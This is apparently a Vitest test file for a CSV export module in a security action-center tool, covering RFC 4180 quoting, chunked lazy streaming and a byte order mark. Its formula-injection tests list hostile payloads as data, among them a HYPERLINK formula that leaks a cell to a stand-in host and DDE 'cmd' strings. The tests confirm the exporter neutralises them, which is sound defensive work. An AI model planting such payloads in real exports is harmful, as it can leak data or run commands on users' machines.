import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { builtInCatalog, type ActionId, type ActionRecord } from '../../src/index.js';
import { asId } from '../../src/adapter-kit.js';
import {
  ACTION_COLUMNS,
  DEFAULT_COLUMNS,
  toRow,
  type ActionColumn,
  type ColumnContext,
} from '../../src/center/columns.js';
import { DEFAULT_CSV_CHUNK_SIZE, collectCsv, csvCell, csvRecord, exportCsv } from '../../src/center/csv.js';
import { actionRecord, fileTarget } from '../support/records.js';

const T0 = Date.UTC(2026, 10, 23, 9, 0, 0);
const context: ColumnContext = { catalog: builtInCatalog };
const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false, record_delimiter: '\r\n' });

/** A complete stored action: the n-th pending quarantine of a file. */
function action(n: number, overrides: Partial<ActionRecord> = {}): ActionRecord {
  return actionRecord({
    id: asId<ActionId>(`act-${n}`),
    target: fileTarget({
      deviceId: `dev-${n}`,
      deviceName: `LAPTOP-${n}`,
      path: 'C:\\Users\\alex\\Downloads\\invoice.exe',
      sha1: 'ab'.repeat(20),
    }),
    verdict: 'suspicious',
    requestComment: 'Found in "Downloads", flagged, then\r\nheld',
    createdAt: T0 + n,
    expiresAt: T0 + 7 * 86_400_000,
    updatedAt: T0 + n,
    ...overrides,
  });
}

const actions = (count: number): ActionRecord[] => Array.from({ length: count }, (_, n) => action(n));

async function chunksOf(source: AsyncIterable<string>): Promise<string[]> {
  const chunks: string[] = [];
  for await (const chunk of source) chunks.push(chunk);
  return chunks;
}

describe('csvCell and csvRecord (RFC 4180)', () => {
  it('leaves plain text alone', () => {
    expect(csvCell('LAPTOP-1')).toBe('LAPTOP-1');
    expect(csvCell('')).toBe('');
    expect(csvCell("it's fine")).toBe("it's fine");
  });

  it('"Fields containing line breaks (CRLF), double quotes, and commas should be enclosed in double-quotes."', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('carriage\rreturn')).toBe('"carriage\rreturn"');
    expect(csvCell('crlf\r\n')).toBe('"crlf\r\n"');
  });

  it('"a double-quote appearing inside a field must be escaped by preceding it with another double quote"', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('"')).toBe('""""');
  });

  it('records are joined by commas and end with CRLF', () => {
    expect(csvRecord(['Action ID', 'Asset'])).toBe('Action ID,Asset\r\n');
    expect(csvRecord(['a,b', '', 'c'])).toBe('"a,b",,c\r\n');
  });

  it('a record of one empty cell is written "" so that it is not a blank line', () => {
    expect(csvRecord([''])).toBe('""\r\n');
    expect(parseCsv('h\r\n' + csvRecord(['']) + csvRecord(['x']))).toEqual([['h'], [''], ['x']]);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
  ];

  for (const attack of attacks) {
    it(`neutralises ${JSON.stringify(attack)} with a leading single quote`, () => {
      const rows = parseCsv(csvRecord(['Asset']) + csvRecord([attack]));
      expect(rows).toEqual([['Asset'], [`'${attack}`]]);
    });
  }

  it("prepends the quote before quoting: =1+1 becomes '=1+1, and a quoted formula keeps its quote inside", () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('=A1,B1')).toBe('"\'=A1,B1"');
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
  });

  it('text that looks like a negative number is neutralised too, as OWASP recommends', () => {
    expect(csvCell('-5')).toBe("'-5");
  });

  it('leaves formula characters that are not first alone', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('LAPTOP-1')).toBe('LAPTOP-1');
    expect(csvCell('alice@contoso.com')).toBe('alice@contoso.com');
  });

  it('headers are neutralised like every other cell', async () => {
    const evil: ActionColumn<'evil'> = { id: 'evil', header: '=EVIL()', value: () => 'x' };
    const csv = await collectCsv(exportCsv([action(1)], { columns: [evil], context }));
    expect(csv).toBe("'=EVIL()\r\nx\r\n");
  });

  it('an asset named like a formula (an attacker-chosen device name) is neutralised in the export', async () => {
    const evil = action(1, {
      target: { kind: 'device', deviceId: 'd', deviceName: '=cmd|calc', deviceGroup: asId('G') },
    });
    const rows = parseCsv(await collectCsv(exportCsv([evil], { columns: [ACTION_COLUMNS.asset], context })));
    expect(rows).toEqual([['Asset'], ["'=cmd|calc"]]);
  });
});

describe('exportCsv', () => {
  it('seed 002: "Select **Export** to export results to a .csv file." (header first, one record per action)', async () => {
    const source = actions(5);
    const csv = await collectCsv(exportCsv(source, { columns: DEFAULT_COLUMNS, context }));
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(DEFAULT_COLUMNS.map((c) => c.header));
    expect(rows.slice(1)).toEqual(source.map((a) => toRow(a, DEFAULT_COLUMNS, context)));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(1 + 5 + 1 + 5); // each comment holds one CRLF inside quotes
  });

  it('exports only the header when there are no actions', async () => {
    const csv = await collectCsv(exportCsv([], { columns: [ACTION_COLUMNS.id, ACTION_COLUMNS.asset], context }));
    expect(csv).toBe('Action ID,Asset\r\n');
  });

  it('reads sync and async sources alike', async () => {
    const source = actions(50);
    async function* paged() {
      for (const a of source) yield a;
    }
    const options = { columns: DEFAULT_COLUMNS, context, chunkSize: 300 };
    expect(await collectCsv(exportCsv(paged(), options))).toBe(await collectCsv(exportCsv(source, options)));
  });

  it('chunks concatenate to the whole export, and none holds more than chunkSize plus one record', async () => {
    const source = actions(200);
    const whole = await collectCsv(exportCsv(source, { columns: DEFAULT_COLUMNS, context }));
    const longestRecord = Math.max(...source.map((a) => csvRecord(toRow(a, DEFAULT_COLUMNS, context)).length));
    for (const chunkSize of [1, 100, 1000, 4096]) {
      const chunks = await chunksOf(exportCsv(source, { columns: DEFAULT_COLUMNS, context, chunkSize }));
      expect(chunks.join('')).toBe(whole);
      expect(chunks.length).toBeGreaterThan(1);
      for (const chunk of chunks) expect(chunk.length).toBeLessThanOrEqual(chunkSize + longestRecord);
      expect(chunks[0]!.startsWith(csvRecord(DEFAULT_COLUMNS.map((c) => c.header)))).toBe(true);
    }
  });

  it('a small export is one chunk at the default chunk size of 64 KiB', async () => {
    expect(DEFAULT_CSV_CHUNK_SIZE).toBe(65_536);
    const chunks = await chunksOf(exportCsv(actions(10), { columns: DEFAULT_COLUMNS, context }));
    expect(chunks).toHaveLength(1);
  });

  it('is lazy: from an endless source, taking three chunks stops and closes the source', async () => {
    let pulled = 0;
    let closed = false;
    function* endless() {
      try {
        for (let n = 0; ; n++) {
          pulled++;
          yield action(n);
        }
      } finally {
        closed = true;
      }
    }
    const chunkSize = 2000;
    const taken: string[] = [];
    for await (const chunk of exportCsv(endless(), { columns: DEFAULT_COLUMNS, context, chunkSize })) {
      taken.push(chunk);
      if (taken.length === 3) break;
    }
    const recordLength = csvRecord(toRow(action(0), DEFAULT_COLUMNS, context)).length;
    expect(taken).toHaveLength(3);
    expect(pulled).toBeLessThanOrEqual(3 * Math.ceil(chunkSize / recordLength) + 1);
    expect(closed).toBe(true);
  });

  it('is lazy with an async source too (the engine pages through the repository)', async () => {
    let pulled = 0;
    let closed = false;
    async function* endlessPages() {
      try {
        for (let page = 0; ; page++) {
          await Promise.resolve();
          for (let i = 0; i < 10; i++) {
            pulled++;
            yield action(page * 10 + i);
          }
        }
      } finally {
        closed = true;
      }
    }
    let chunks = 0;
    for await (const _ of exportCsv(endlessPages(), { columns: DEFAULT_COLUMNS, context, chunkSize: 1000 })) {
      if (++chunks === 3) break;
    }
    expect(chunks).toBe(3);
    expect(pulled).toBeLessThan(50);
    expect(closed).toBe(true);
  });

  it('pulls nothing from the source until the first chunk is asked for', async () => {
    let pulled = 0;
    function* counted() {
      pulled++;
      yield action(0);
    }
    const stream = exportCsv(counted(), { columns: DEFAULT_COLUMNS, context });
    expect(pulled).toBe(0);
    await collectCsv(stream);
    expect(pulled).toBe(1);
  });

  it('can start with a UTF-8 byte order mark for Excel', async () => {
    const csv = await collectCsv(exportCsv([action(1)], { columns: [ACTION_COLUMNS.id], context, bom: true }));
    expect(csv).toBe('\uFEFFAction ID\r\nact-1\r\n');
    expect(parse(csv, { bom: true })).toEqual([['Action ID'], ['act-1']]);
  });

  it('a source that fails mid-export rejects the stream with its error', async () => {
    function* failing() {
      yield action(0);
      throw new Error('repository unavailable');
    }
    await expect(collectCsv(exportCsv(failing(), { columns: DEFAULT_COLUMNS, context, chunkSize: 1 }))).rejects.toThrow(
      'repository unavailable',
    );
  });

  it('collectCsv joins sync and async chunk sources', async () => {
    expect(await collectCsv(['a,', 'b\r\n'])).toBe('a,b\r\n');
    async function* chunks() {
      yield 'x';
      yield 'y';
    }
    expect(await collectCsv(chunks())).toBe('xy');
  });
});
